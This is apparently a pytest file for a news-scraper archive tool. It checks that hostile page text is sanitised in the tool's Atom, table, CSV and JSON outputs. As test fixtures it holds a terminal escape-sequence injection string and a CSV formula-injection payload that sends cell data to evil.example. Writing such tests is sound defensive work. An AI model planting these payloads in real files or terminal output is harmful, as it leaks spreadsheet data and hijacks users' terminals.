"""Text from hostile pages in the archive's outputs: the Atom feed stays well-formed, the
terminal gets no control sequences, a spreadsheet opening a CSV export runs no formula."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from datetime import UTC, datetime

import pytest
from click.testing import CliRunner

from mfa_scraper.archive import ArchiveWriter
from mfa_scraper.cli import main
from tests.test_archive_versions import make_article

ESCAPES = "\x1b]0;owned\x07\x1b[31mRed\x1b[0m\rOver\x9b2J"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
URLS = {"escapes": "https://www.urm.lt/en/news/928/a:1",
        "control": "https://www.urm.lt/en/news/928/b:2",
        "formula": "https://www.urm.lt/en/news/928/c:3"}


@pytest.fixture(scope="module")
def archive(tmp_path_factory):
    path = tmp_path_factory.mktemp("hostile") / "archive"
    titles = {"escapes": f"Title {ESCAPES}", "control": "Title \x01\x0b with controls",
              "formula": FORMULA}
    with ArchiveWriter(path) as writer:
        for name, url in URLS.items():
            writer.record(make_article(url, title=titles[name], body=f"Body {ESCAPES}."))
    return path


def run(archive, *args: str) -> str:
    result = CliRunner().invoke(main, [*args, "--archive", str(archive)])
    assert result.exit_code == 0, result.output
    return result.stdout


def test_the_atom_feed_is_well_formed_xml(archive):
    feed = run(archive, "changes", "--since", datetime(2000, 1, 1, tzinfo=UTC).isoformat(),
               "--format", "atom")
    root = ET.fromstring(feed)  # raises on a control character
    titles = [e.text for e in root.iter("{http://www.w3.org/2005/Atom}title")]
    assert any("Title \ufffd\ufffd with controls" in (t or "") for t in titles)


@pytest.mark.parametrize("args", [("list", "--format", "table"),
                                  ("show", URLS["escapes"], "--format", "table"),
                                  ("history", URLS["escapes"], "--format", "table")])
def test_tables_print_no_terminal_control_character(archive, args):
    out = run(archive, *args)
    assert not any(c in out for c in "\x1b\x07\r\x9b\x01\x0b"), repr(out)


def test_csv_cells_are_never_formulas(archive, tmp_path):
    printed = list(csv.DictReader(io.StringIO(run(archive, "list", "--format", "csv"))))
    exported = tmp_path / "out.csv"
    run(archive, "export", "--format", "csv", str(exported))
    with exported.open(encoding="utf-8") as handle:
        written = list(csv.DictReader(handle))
    for rows in (printed, written):
        titles = {row["title"] for row in rows}
        assert "'" + FORMULA in titles and FORMULA not in titles


def test_json_keeps_the_text_exactly(archive):
    rows = [json.loads(line) for line in run(archive, "list", "--format", "jsonl").splitlines()]
    assert f"Title {ESCAPES}" in {row["title"] for row in rows}  # escaped by JSON, not lost
